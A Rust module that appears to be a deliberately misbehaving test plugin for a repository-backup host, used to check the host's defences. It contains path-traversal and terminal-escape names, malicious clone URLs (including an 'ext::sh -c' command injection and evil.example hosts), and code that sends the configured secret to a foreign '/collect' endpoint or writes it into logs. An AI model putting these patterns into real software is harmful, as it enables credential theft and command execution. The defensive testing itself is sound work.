//! The misbehaviours of a listing:
//!
//! - `control-names`: names and ids that would be dangerous as paths or on a terminal;
//! - `no-id`, `duplicate-ids`: identities missing, or shared by two repositories;
//! - `endless-pages`, `endless-empty`: always one more page, of a new repository or of nothing;
//! - `circle`: the second page leads back to itself;
//! - `huge`: 100,000 repositories on ten pages; `huge-page`: more on one page than may be;
//! - `<way>-next`: a second page, and on it what [`crate::deaths`] says;
//! - `limited`: each page of two says at first that a limit is used up;
//! - `bad-clone-url`: clone URLs that must not be cloned from;
//! - `leak`: the secret in log lines and in the error;
//! - `direct-origin`, `direct-header`: the credentials to another origin, by the host's field for
//!   them or by a header;
//! - `direct-field`, `direct-address`, `direct-body`: the same by a field of its own, by the address, by
//!   a body;
//! - `post`: a POST to the other origin, without credentials;
//! - `flood`: 2,000 requests of the host for one page; `chatter`: 20,000 lines of the log;
//! - `many-notes`: a million notes; `long-note`: one of 8 MB;
//! - `error-weird`: an error of an unknown kind, with control characters.

use forgekeep_plugin_sdk::{
    Auth, ErrorKind, Finding, Header, Host, HosterError, HttpRequest, Page, Part, PartKind,
    Repository, Result, Severity, Source,
};

use crate::settings::{clone_base, foreign_origin, misbehaviour};
use crate::{Kept, deaths, own, requests, services};

/// Names that a careless host would write to the disk or the terminal as they are.
const DANGEROUS: [&str; 16] = [
    "acme/../../../../tmp/forgekeep-escaped",
    "/etc/forgekeep-escaped",
    "acme/..",
    "..",
    ".",
    "acme/\u{1b}[2J\u{1b}[31mred",
    "acme/line\r\nforged: line",
    "acme/\u{202e}gpj.exe",
    "acme/nul\u{0}byte",
    "acme\\..\\..\\windows",
    "C:\\forgekeep-escaped",
    "acme/CON",
    "acme/Case",
    "acme/case",
    "acme/trailing. ",
    "",
];

/// URLs that must not be cloned from.
const BAD_URLS: [&str; 10] = [
    "file:///etc/passwd",
    "/etc/passwd",
    "ssh://git@evil.example/acme/web.git",
    "git@evil.example:acme/web.git",
    "ext::sh -c 'touch /tmp/forgekeep-escaped'",
    "git://evil.example/acme/web.git",
    "http://user:pass@evil.example/acme/web.git",
    "https://evil.example/acme/web.git",
    "https://evil.example\\@misbehaving.example/acme/web.git",
    "",
];

/// The page that the misbehaviour makes.
pub(crate) fn page(source: &Source, cursor: Option<&str>, host: &Host<'_>) -> Result<Page> {
    if let Some(error) = failure(source, host) {
        return Err(error);
    }
    let number: u64 = cursor.and_then(|cursor| cursor.parse().ok()).unwrap_or(1);
    if misbehaviour() == "limited" {
        return limited(number, host);
    }
    if number == 2 {
        deaths::in_method("next");
    }
    let mut page = of(repositories(number));
    page.next = match misbehaviour() {
        way if way.ends_with("-next") && number == 1 => Some("2".to_owned()),
        "endless-pages" | "endless-empty" => Some((number + 1).to_string()),
        "huge" if number < 10 => Some((number + 1).to_string()),
        "circle" => Some("2".to_owned()),
        _ => None,
    };
    match misbehaviour() {
        "many-notes" => page.notes = vec![Finding::new(Severity::Info, "", "x"); 1_000_000],
        "long-note" => page.notes = vec![Finding::new(Severity::Info, "", "x".repeat(8 << 20))],
        "flood" => {
            for number in 0..2_000 {
                let url = format!("{}/{number}", clone_base());
                let _ = host.get(&url, &Auth::None);
            }
        }
        "chatter" => (0..20_000).for_each(|number| host.info(&format!("line {number}"))),
        direct if direct.starts_with("direct-") => {
            let message = format!("{} answered", foreign_origin());
            page.notes.push(Finding::new(Severity::Info, "", message));
        }
        _ => page.notes.extend(services::used(source, host)),
    }
    Ok(page)
}

/// Two pages, each of which is a limit at first.
fn limited(number: u64, host: &Host<'_>) -> Result<Page> {
    if host.session::<Kept>()?.count(&format!("page {number}")) == 1 {
        let mut error =
            HosterError::new(ErrorKind::RateLimited, "its limit is used up").transient();
        error.retry_after = Some(1);
        return Err(error);
    }
    let (name, next) = match number {
        1 => ("acme/one", Some("2".to_owned())),
        _ => ("acme/two", None),
    };
    Ok(Page {
        next,
        ..of(vec![good(name)])
    })
}

fn repositories(page: u64) -> Vec<Repository> {
    match misbehaviour() {
        "endless-pages" => vec![good(&format!("acme/r{page}"))],
        "endless-empty" => Vec::new(),
        "circle" if page > 1 => Vec::new(),
        "control-names" => DANGEROUS.iter().map(|name| dangerous(name)).collect(),
        "no-id" => vec![Repository::new("", "acme/one", clone_url("acme/one"))],
        "duplicate-ids" => ["acme/one", "acme/two"]
            .iter()
            .map(|name| Repository::new("same", *name, clone_url(name)))
            .collect(),
        "huge" => (0..10_000)
            .map(|number| good(&format!("acme/r{}", (page - 1) * 10_000 + number)))
            .collect(),
        "huge-page" => (0..20_000)
            .map(|number| good(&format!("acme/r{number}")))
            .collect(),
        "bad-clone-url" => BAD_URLS
            .iter()
            .enumerate()
            .map(|(number, url)| {
                Repository::new(format!("bad-{number}"), format!("acme/bad-{number}"), *url)
            })
            .collect(),
        "expiring" => vec![with_wiki("acme/one"), with_wiki("acme/two")],
        _ => vec![good("acme/one"), good("acme/two")],
    }
}

/// The error that the misbehaviour ends in, if any.
pub(crate) fn failure(source: &Source, host: &Host<'_>) -> Option<HosterError> {
    let secret = || {
        let secret = source.password();
        secret
            .map_or("no-secret-configured", |secret| secret.expose())
            .to_owned()
    };
    match misbehaviour() {
        "leak" => Some(leak(&secret(), host)),
        "direct-origin" => send(Vec::new(), own(source), host),
        "direct-header" => {
            let header = Header {
                name: "AuthoriZation".into(),
                value: format!("Bearer {}", secret()),
            };
            send(vec![header], Auth::None, host)
        }
        "direct-field" => {
            let header = Header {
                name: "PRIVATE-TOKEN".into(),
                value: secret(),
            };
            send(vec![header], Auth::None, host)
        }
        "direct-address" => ask("GET", &format!("collect?token={}", secret()), "", host),
        "direct-body" => {
            let body = format!("{{\"token\": \"{}\"}}", secret());
            ask("POST", "collect", &body, host)
        }
        "post" => Some(
            ask("POST", "2.0/repositories/acme", "{}", host)
                .unwrap_or_else(|| HosterError::new(ErrorKind::Other, "it was answered")),
        ),
        "error-weird" => Some(
            HosterError::new(
                ErrorKind::of("flux-capacitor"),
                "all is lost\u{1b}[2J\u{1b}[31m\r\nforged: line\u{0}\u{202e}",
            )
            .with_hint("do\u{7} nothing\n"),
        ),
        _ => requests::failure(source, host),
    }
}

/// Says the secret wherever words can be said.
fn leak(secret: &str, host: &Host<'_>) -> HosterError {
    host.info(&format!("the secret is {secret}"));
    host.debug(&format!("again: {secret}"));
    println!("and again: {secret}");
    eprintln!("and again: {secret}");
    HosterError::new(ErrorKind::Other, format!("refused with {secret}"))
        .with_hint(format!("try {secret} once more"))
}

/// Sends credentials to another origin; what the host says to that.
fn send(headers: Vec<Header>, auth: Auth, host: &Host<'_>) -> Option<HosterError> {
    host.http(HttpRequest {
        headers,
        ..HttpRequest::new("GET", format!("{}/collect", foreign_origin()), &auth)
    })
    .err()
}

/// Asks the other origin without the host's field for credentials; what the host says to that.
fn ask(method: &str, address: &str, body: &str, host: &Host<'_>) -> Option<HosterError> {
    let url = format!("{}/{address}", foreign_origin());
    let request = HttpRequest {
        body: body.as_bytes().to_vec(),
        ..HttpRequest::new(method, url, &Auth::None)
    };
    host.http(request.with_header("accept", "application/json"))
        .err()
}

fn of(repositories: Vec<Repository>) -> Page {
    Page {
        repositories,
        ..Page::default()
    }
}

fn clone_url(name: &str) -> String {
    format!("{}/{name}.git", clone_base())
}

fn good(name: &str) -> Repository {
    Repository::new(format!("id-of-{name}"), name, clone_url(name))
}

fn with_wiki(name: &str) -> Repository {
    let mut repository = good(name);
    let wiki = Part::new(PartKind::Wiki, format!("{}/wiki", clone_url(name)));
    repository.parts.push(wiki);
    repository
}

/// Dangerous in every text it has, but with something to clone.
fn dangerous(name: &str) -> Repository {
    let mut repository = Repository::new(name, name, clone_url("acme/one"));
    if let Some(git) = repository.parts.first_mut() {
        git.default_branch = Some(name.to_owned());
    }
    let wiki = Part::new(PartKind::Wiki, clone_url("acme/one"));
    repository.parts.push(wiki);
    repository.handle = name.to_owned();
    repository
}
